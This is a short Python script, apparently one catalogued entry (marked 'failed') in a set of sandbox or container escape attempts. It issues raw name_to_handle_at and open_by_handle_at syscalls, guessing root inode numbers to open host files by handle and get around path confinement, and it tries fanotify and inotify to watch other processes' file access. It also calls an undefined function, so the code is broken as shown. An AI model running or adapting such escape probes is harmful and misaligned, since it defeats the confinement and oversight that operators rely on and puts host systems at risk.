"""Opens files by their handles instead of their paths, as containers were once left, and watches what others open.

catalogue: D64
outcome: failed
prints: tried
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
ARM = os.uname().machine == "aarch64"
HERE = ctypes.c_long(-100)


def call(name, number, *args):
    answer = libc.syscall(ctypes.c_long(number), *args)
    print(name, os.strerror(ctypes.get_errno()))
    if answer >= 0:
        won(name)


handle, mount = (ctypes.c_uint32 * 34)(128), ctypes.c_int()
for path in (b"/", b"/usr", b"/guest", b"/box"):
    call("name_to_handle_at", 264 if ARM else 303, HERE, path, handle, ctypes.byref(mount), ctypes.c_long(0))
for inode in (2, 128, 256):  # a root directory's on ext4, xfs, btrfs
    guess = (ctypes.c_uint32 * 4)(8, 1, inode, 0)
    for path in ("/", "/usr", "/box"):
        fd = os.open(path, os.O_RDONLY)
        call("open_by_handle_at", 265 if ARM else 304, ctypes.c_long(fd), guess, ctypes.c_long(0))
call("fanotify_init", 262 if ARM else 300, ctypes.c_long(0x600), ctypes.c_long(0))  # by file handle, as anybody may
call("inotify_init1", 26 if ARM else 294, ctypes.c_long(0))
print("tried")
